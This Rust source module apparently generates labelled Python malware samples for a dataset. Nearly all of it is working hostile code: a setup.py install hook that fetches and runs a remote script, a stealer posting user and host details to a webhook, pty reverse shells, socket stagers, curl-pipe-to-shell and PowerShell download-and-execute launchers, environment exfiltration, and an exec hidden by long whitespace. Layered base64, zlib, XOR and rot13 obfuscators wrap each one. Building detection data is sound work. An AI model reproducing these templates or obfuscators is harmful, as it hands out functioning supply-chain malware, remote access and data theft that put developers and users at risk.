//! Python: packages that steal, stagers, reverse shells, and layers of obfuscators.

use super::super::{
    Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed, rot13, xored, zlib,
};
use super::{listed, only, parted, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(11) {
        0 => {
            before.push_str("import base64\n");
            format!("base64.b64decode('{}').decode()", base64(text.as_bytes()))
        }
        1 => format!("bytes.fromhex('{}').decode('utf-8')", hex(text.as_bytes())),
        2 => format!("''.join(chr({name}) for {name} in [{}])", codes(text.bytes(), ", ")),
        3 => format!("'{}'[::-1]", reversed(text)),
        4 => format!("__import__('codecs').decode('{}', 'rot13')", rot13(text)),
        5 => format!(
            "__import__('zlib').decompress(__import__('base64').b64decode(b'{}')).decode()",
            base64(&zlib(text.as_bytes()))
        ),
        6 => {
            let key = dice.name();
            before.push_str(&format!(
                "def {name}(data, key):\n    out = bytearray()\n    for i, b in enumerate(data):\n        out.append(b ^ ord(key[i % len(key)]))\n    return out.decode()\n"
            ));
            format!("{name}(bytes.fromhex('{}'), '{key}')", hex(&keyed(text, &key)))
        }
        7 => {
            let key = dice.key();
            format!("''.join(map(lambda c: chr(c ^ {key}), [{}]))", codes(xored(text, key), ","))
        }
        8 => each(text, "+", |byte| format!("chr({byte})")),
        9 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("{name} = '{letters}'\n"));
            format!("''.join([{name}[i] for i in ({},)])", listed(places, ","))
        }
        _ => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let shown: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let form: String = (0..pieces.len())
                .map(|piece| {
                    let at = order.iter().position(|it| *it == piece).unwrap_or_default();
                    format!("{{{at}}}")
                })
                .collect();
            format!("'{form}'.format({})", quoted(&shown, '\'').join(", "))
        }
    }
}

fn layered(dice: &mut Dice, script: &str) -> String {
    let packed = base64(&zlib(script.as_bytes()));
    match dice.below(11) {
        0 => format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
            reversed(&packed)
        ),
        1 => format!("import base64\nexec(base64.b64decode('{}'))\n", base64(script.as_bytes())),
        2 => format!(
            "import zlib, base64\nexec(compile(zlib.decompress(base64.b64decode('{packed}')), '<string>', 'exec'))\n"
        ),
        3 => {
            // Four parts, each put another way, as a well-known obfuscator has it.
            let whole = base64(script.as_bytes());
            let quarter = whole.len() / 4;
            let parts = [
                &whole[..quarter],
                &whole[quarter..2 * quarter],
                &whole[2 * quarter..3 * quarter],
                &whole[3 * quarter..],
            ];
            let names = ["____", "_____", "______", "_______"];
            format!(
                "{}=\"{}\";{}=\"{}\";{}=\"{}\";{}=\"{}\";__import__('builtins').exec(__import__('base64').b64decode(__import__('codecs').decode({}, 'rot13')+{}+{}[::-1]+{}))\n",
                names[0],
                rot13(parts[0]),
                names[1],
                parts[1],
                names[2],
                reversed(parts[2]),
                names[3],
                parts[3],
                names[0],
                names[1],
                names[2],
                names[3],
            )
        }
        4 => format!(
            "exec(''.join(chr(int(x)) for x in '{}'.split()))\n",
            codes(script.bytes(), " ")
        ),
        _ => script.to_owned(),
    }
}

const SETUP: &str = r"from setuptools import setup, find_packages
from setuptools.command.install import install
import os, subprocess, tempfile

VERSION = '1.0.@N@'
DESCRIPTION = 'A colourful logger for humans'


class PostInstall(install):
    def run(self):
        install.run(self)
        fetch()


def fetch():
@IN@    from urllib.request import urlopen, Request
    try:
        body = urlopen(Request(@W@, headers={'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'})).read()
        path = os.path.join(tempfile.gettempdir(), '@F@.py')
        with open(path, 'wb') as out:
            out.write(body)
        subprocess.Popen(['python3', path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass


fetch()
setup(
    name='@F@',
    version=VERSION,
    description=DESCRIPTION,
    packages=find_packages(),
    cmdclass={'install': PostInstall},
)
";

const STEALER: &str = r"import os, json, getpass, platform, socket as _s
from urllib.request import Request, urlopen
@B@HOOK = @W@
PATHS = {
    'Discord': os.path.join(os.path.expanduser('~'), '.config', 'discord'),
    'Chrome': os.path.join(os.path.expanduser('~'), '.config', 'google-chrome', 'Default'),
}

def info():
    return {'user': getpass.getuser(), 'os': platform.platform(), 'host': _s.gethostname(), 'found': [k for k, v in PATHS.items() if os.path.exists(v)]}

def send(data):
    headers = {'Content-Type': 'application/json', 'User-Agent': 'Mozilla/5.0 (X11; U; Linux i686) Gecko/20071127 Firefox/2.0.0.11'}
    payload = json.dumps({'username': 'hook', 'content': '```' + json.dumps(data) + '```'})
    try:
        urlopen(Request(HOOK, data=payload.encode(), headers=headers))
    except Exception:
        pass

if __name__ == '__main__':
    send(info())
";

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let script = match dice.below(11) {
        0 => {
            let url = truth.url(dice, &["", ".py", "/grab"]);
            let word = hide(dice, &url, &mut before);
            let inside: String = before.lines().map(|line| format!("    {line}\n")).collect();
            let number = dice.below(20).to_string();
            put(SETUP, &[("IN", &inside), ("W", &word), ("F", &file), ("N", &number)])
        }
        1 => {
            let url = truth.url(dice, &[".exe", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "import os, requests, subprocess\n{before}url = {word}\npath = os.path.join(os.environ.get('TEMP', '/tmp'), '{file}.exe')\nr = requests.get(url, allow_redirects=True, verify=False)\nwith open(path, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([path], shell=True)\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            match dice.below(3) {
                0 => format!(
                    "import socket,subprocess,os\n{before}s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(({word},{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")\n"
                ),
                1 => format!(
                    "{before}import os,pty,socket;s=socket.socket();s.connect(({word},{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"bash\")\n"
                ),
                _ => format!(
                    "{before}a=__import__;s=a(\"socket\");o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s.socket(s.AF_INET,s.SOCK_STREAM);c.connect(({word},{port}));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")\n"
                ),
            }
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "import socket,zlib,base64,struct,time\n{before}for x in range(10):\n\ttry:\n\t\ts=socket.socket(2,socket.SOCK_STREAM)\n\t\ts.connect(({word},{port}))\n\t\tbreak\n\texcept:\n\t\ttime.sleep(5)\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n\td+=s.recv(l-len(d))\nexec(zlib.decompress(base64.b64decode(d)),{{'s':s}})\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".exe", ".py", ".zip"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "import os, sys, tempfile\nfrom urllib import request\n{before}target = os.path.join(tempfile.gettempdir(), '{file}')\nrequest.urlretrieve({word}, target)\nos.system('\"' + target + '\"')\n"
            )
        }
        5 => {
            let url = truth.url(dice, &["", ".sh"]);
            let word = hide(dice, &url, &mut before);
            let run = match dice.below(3) {
                0 => format!("os.system('curl -s ' + {word} + ' | bash')"),
                1 => format!("os.popen(f'wget -q -O /tmp/{file} {{u}} && sh /tmp/{file}').read()"),
                _ => "subprocess.run('curl -fsSL %s | sh' % u, shell=True)".to_owned(),
            };
            format!(
                "import os, subprocess, platform\n{before}u = {word}\nif platform.system() == 'Linux':\n    {run}\n"
            )
        }
        6 => {
            let url = truth.url(dice, &["", ".php"]);
            let (scheme, host, port, path) = parted(&url);
            let word = hide(dice, &host, &mut before);
            let class = if scheme == "https" { "HTTPSConnection" } else { "HTTPConnection" };
            let said = if url.contains(&format!(":{port}/")) {
                format!(", {port}")
            } else {
                String::new()
            };
            format!(
                "import http.client, os, json\n{before}conn = http.client.{class}({word}{said})\nconn.request('POST', '{path}', json.dumps(dict(os.environ)), {{'Content-type': 'application/json'}})\nconn.getresponse().read()\n"
            )
        }
        7 => {
            let url = truth.url(dice, &["", "/api/webhooks"]);
            let word = hide(dice, &url, &mut before);
            put(STEALER, &[("B", &before), ("W", &word)])
        }
        8 => {
            // Far to the right, where an editor does not show it.
            let url = truth.url(dice, &["", "/paste.php"]);
            let word = hide(dice, &url, &mut before);
            let far = " ".repeat(120 + dice.below(200));
            format!(
                "{before}import os\nimport logging{far};import requests;exec(requests.get({word}).text.replace('<pre>','').replace('</pre>',''))\n\nlogger = logging.getLogger(__name__)\n\ndef add(left, right):\n    \"\"\"Adds two numbers.\"\"\"\n    return left + right\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "import subprocess\n{before}link = {word}\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command', \"iwr -UseBasicParsing '\" + link + \"' | iex\"], shell=False)\n"
            )
        }
        _ => {
            let urls: Vec<String> =
                (0..2 + dice.below(2)).map(|_| truth.url(dice, &["", ".bin"])).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "import ssl, urllib.request, threading\n{before}ctx = ssl._create_unverified_context()\nmirrors = [{}]\n\ndef job(u):\n    try:\n        req = urllib.request.Request(u)\n        req.add_header('User-Agent', 'python-requests/2.28')\n        data = urllib.request.urlopen(req, context=ctx, timeout=10).read()\n        open('/tmp/{file}', 'ab').write(data)\n    except Exception as e:\n        pass\n\nfor m in mirrors:\n    t = threading.Thread(target=job, args=(m,))\n    t.start()\n    t.join()\n",
                words.join(", ")
            )
        }
    };
    layered(dice, &script)
}
